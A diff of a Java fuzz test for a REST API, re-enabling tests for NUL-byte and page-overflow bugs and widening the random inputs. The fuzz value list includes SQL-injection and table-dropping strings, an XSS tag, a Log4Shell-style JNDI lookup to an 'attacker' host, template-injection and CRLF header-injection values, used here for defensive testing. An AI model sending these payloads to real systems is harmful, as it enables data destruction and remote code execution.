@@ -179,12 +179,10 @@ class FuzzTest {
     }
 
     // ------------------------------------------------------------------------------------------
-    // Bugs the fuzzing found, pinned by their smallest request; the random inputs avoid them meanwhile.
+    // What the fuzzing found, pinned by the smallest request.
     // ------------------------------------------------------------------------------------------
 
     @Test
-    @Disabled("bug: U+0000 in a path, query or body value reaches PostgreSQL (invalid byte sequence for encoding UTF8: 0x00) "
-            + "and the service answers 500: GET /api/v1/indicators/%00, GET /api/v1/reports?cluster=%00, a name with it in POST /api/v1/clusters")
     void aNulCharacterIsABadRequest() {
         Map<String, Object> cluster = Map.of("code", Api.freshClusterCode("NUL"), "name", "Cụm\u0000thử", "kind", "BLOC");
         Map<String, Response> answers = new LinkedHashMap<>();
@@ -206,16 +204,14 @@ class FuzzTest {
     }
 
     @Test
-    @Disabled("bug: page * size overflows int: GET /api/v1/reports?page=2147483647 answers 500 "
-            + "(First result cannot be negative); the same paging is behind every collection")
     void aPageFarBeyondTheLastIsNoServerError() {
         central().get("/api/v1/reports?page=2147483647").then()
                 .statusCode(org.hamcrest.Matchers.anyOf(org.hamcrest.Matchers.is(200), org.hamcrest.Matchers.is(400)));
     }
 
     @Test
-    @Disabled("bug: a request line over 4 KiB is refused by the HTTP server with 414 and an empty body: "
-            + "neither documented in the contract nor application/problem+json")
+    @Disabled("known limitation: a request line over 4 KiB is refused by the HTTP server (Vert.x) with 414 and an "
+            + "empty body, before the service sees it: neither in the contract nor application/problem+json")
     void aTooLongAddressIsAProblem() {
         central().get("/api/v1/clusters?q=" + "x".repeat(5000)).then()
                 .statusCode(org.hamcrest.Matchers.is(400)).contentType("application/problem+json");
@@ -346,7 +342,7 @@ class FuzzTest {
             "' OR '1'='1", "'; DROP TABLE report; --", "<script>alert(1)</script>", "${jndi:ldap://attacker/a}",
             "{{7*7}}", "\u0001\u001f", "\uD83D\uDE00\uD83C\uDDFB\uD83C\uDDF3", "\u202Eabc", "a\u200Bb", "e\u0301\u0302\u0323",
             "\uD800", "\uFFFF", "9999999999999999999999", "-1", "1e309", "NaN", "null", "true", "2023-H1", "2023-Q3",
-            "2023-02-30", "9999-12-31", "0000-00-00", "漢字", "Ωμέγα", "مرحبا", "\\u0000", "\r\nX-Injected: 1",
+            "2023-02-30", "9999-12-31", "0000-00-00", "漢字", "Ωμέγα", "مرحبا", "\\u0000", "a\u0000b", "\r\nX-Injected: 1",
         };
         private static final String[] SYLLABLES = {"thi", "đua", "khen", "thưởng", "cụm", "trưởng", "tỉnh", "Hà", "Nội",
             "Đà", "Nẵng", "Huế", "nghĩa", "quyết", "định", "Bằng", "Cờ", "Chính", "phủ", "nông", "thôn", "mới", "xã"};
@@ -380,7 +376,7 @@ class FuzzTest {
             StringBuilder text = new StringBuilder();
             for (int i = 0; i < length; i++) {
                 int[] range = new int[][] {{0x20, 0x7e}, {0xa0, 0x24f}, {0x1ea0, 0x1ef9}, {0x300, 0x36f}, {0x4e00, 0x4fff},
-                    {0x1f300, 0x1f64f}, {0x1, 0x1f}, {0x202a, 0x202e}}[random.nextInt(8)];
+                    {0x1f300, 0x1f64f}, {0x0, 0x1f}, {0x202a, 0x202e}}[random.nextInt(8)];
                 text.appendCodePoint(range[0] + random.nextInt(range[1] - range[0] + 1));
             }
             return text.toString();
@@ -503,8 +499,8 @@ class FuzzTest {
                 return parameter.values().get(random.nextInt(parameter.values().size()));
             }
             return switch (random.nextInt(4)) {
-                // A page far beyond the last overflows (see aPageFarBeyondTheLastIsNoServerError).
-                case 0 -> parameter.name().equals("page") ? "-1" : String.valueOf(NUMBERS[random.nextInt(NUMBERS.length)]);
+                case 0 -> parameter.name().equals("page") ? (random.nextBoolean() ? "-1" : "2147483647")
+                        : String.valueOf(NUMBERS[random.nextInt(NUMBERS.length)]);
                 case 1 -> String.valueOf(random.nextInt(200) - 50);
                 default -> text(random);
             };
